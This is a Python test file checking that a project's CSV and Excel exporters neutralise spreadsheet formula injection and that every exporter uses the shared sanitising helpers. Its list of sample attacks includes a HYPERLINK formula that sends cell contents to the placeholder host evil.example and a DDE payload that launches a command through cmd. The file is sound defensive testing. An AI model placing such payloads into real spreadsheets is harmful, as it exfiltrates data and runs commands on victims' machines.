"""Formula injection (issue 22 finding 5): the one door ``shidian.cells`` and every exporter
going through it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pyarrow as pa
import xlsxwriter

from shidian.cells import XLSX_OPTIONS, csv_cell, openpyxl_text
from shidian.runs import write_csv_tables

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
SRC = Path(__file__).resolve().parents[1] / "src" / "shidian"


def test_csv_cells_that_would_run_get_an_apostrophe_and_numbers_stay_numbers():
    assert [csv_cell(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert [csv_cell(v) for v in ("-12.50", "+3", "-7", "张三", "", 5, None)] == [
        "-12.50", "+3", "-7", "张三", "", 5, None,
    ]  # fmt: skip


def test_run_csv_files_neutralise_text_columns_only(tmp_path):
    table = pa.table({"name": [*ATTACKS, "张三"], "amount": pa.array([-1, 2, 3, 4, 5, 6, -7], pa.int64())})
    write_csv_tables(tmp_path, {"out.csv": table})
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["name", "amount"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS] + ["张三"]
    assert [r[1] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6", "-7"]


def test_xlsxwriter_books_write_strings_as_text(tmp_path):
    path = tmp_path / "x.xlsx"
    book = xlsxwriter.Workbook(str(path), XLSX_OPTIONS)
    sheet = book.add_worksheet()
    for i, attack in enumerate(ATTACKS[:4]):
        sheet.write(i, 0, attack)
    book.close()
    cells = [row[0] for row in openpyxl.load_workbook(path).active.iter_rows()]
    assert [(c.value, c.data_type) for c in cells] == [(a, "s") for a in ATTACKS[:4]]


def test_openpyxl_cells_hold_text_not_formulas(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([ATTACKS[0]])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own
    openpyxl_text(sheet["A1"])
    book.save(tmp_path / "o.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "o.xlsx").active["A1"]
    assert (cell.value, cell.data_type) == (ATTACKS[0], "s")


def test_every_exporter_goes_through_the_door():
    """Every xlsxwriter book is opened with XLSX_OPTIONS, every csv.writer module writes rows
    through csv_row, every openpyxl writer through openpyxl_text."""
    offenders = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for call in re.findall(r"xlsxwriter\.Workbook\((?:[^()]|\([^()]*\))*\)", text):  # the whole call
            if "XLSX_OPTIONS" not in call:
                offenders.append(f"{path.name}: {call}")
        if "csv.writer(" in text and "csv_row(" not in text:
            offenders.append(f"{path.name}: csv.writer without csv_row")
        if re.search(r"openpyxl\.Workbook\(", text) and "openpyxl_text" not in text:
            offenders.append(f"{path.name}: openpyxl book without openpyxl_text")
    assert offenders == []
